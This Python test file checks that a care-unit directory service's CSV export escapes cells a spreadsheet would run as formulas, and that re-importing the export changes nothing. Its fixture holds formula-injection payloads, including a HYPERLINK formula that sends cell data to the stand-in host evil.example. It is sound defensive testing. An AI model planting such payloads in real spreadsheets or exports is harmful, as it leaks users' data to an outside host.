"""Issue 19: the directory's CSV export neutralises cells a spreadsheet would run as a
formula (as the overview CSV does, through the same writer), and importing that export
leaves the directory unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from services.directory.transfer_read import CSV_COLUMNS
from shared.web.csvout import FORMULA_START
from tests.helpers.asgi import app_client
from tests.helpers.directory import SPEC, auth, build

FORMULA_UNITS: list[dict[str, Any]] = [
    {
        "name": '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
        "kind": "boendestod",
        "kommunkoder": ["0780"],
        "mission": "-2+3 och @mention",
        "contact_paths": [
            {"reason": "=1+1", "channel": "phone", "phone": "0470-41 00 00", "note": "+ring"}
        ],
    },
    {"name": "'=redan citerad", "kind": "boendestod", "kommunkoder": ["0780"], "mission": "+46"},
    {"name": "@SUM(A1:A9)", "kind": "akutpsykiatri", "kommunkoder": ["0780"]},
]


@pytest.fixture
async def client(db_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with app_client(SPEC.migrations_dir, db_url, build) as c:
        yield c


async def own_units(client: httpx.AsyncClient) -> list[dict[str, Any]]:
    r = await client.get("/v1/units", headers=auth())
    assert r.status_code == 200, r.text
    items: list[dict[str, Any]] = r.json()["items"]
    return sorted(items, key=lambda u: u["id"])


class TestDirectoryCsvExportNeutralisesFormulas:
    async def test_no_exported_cell_starts_a_formula_and_the_reimport_changes_nothing(
        self, client: httpx.AsyncClient
    ) -> None:
        for body in FORMULA_UNITS:
            r = await client.post("/v1/units", json=body, headers=auth())
            assert r.status_code == 201, r.text
        before = await own_units(client)

        r = await client.get("/v1/units/export", headers=auth())
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.text.removeprefix("\ufeff"), newline="")))
        assert rows[0] == list(CSV_COLUMNS)
        data = [cell for row in rows[1:] for cell in row]
        # A plain number is no formula and stays as it is (the mission "+46").
        assert [c for c in data if c.startswith(FORMULA_START)] == ["+46"]
        names = [row[0] for row in rows[1:]]
        assert "'" + FORMULA_UNITS[0]["name"] in names
        assert "''=redan citerad" in names

        back = await client.post(
            "/v1/units/import",
            content=r.content,
            headers={**auth(), "Content-Type": "text/csv"},
        )
        assert back.status_code == 200, back.text
        report = back.json()
        assert (report["created"], report["updated"], report["unchanged"]) == (0, 0, 3)
        assert await own_units(client) == before
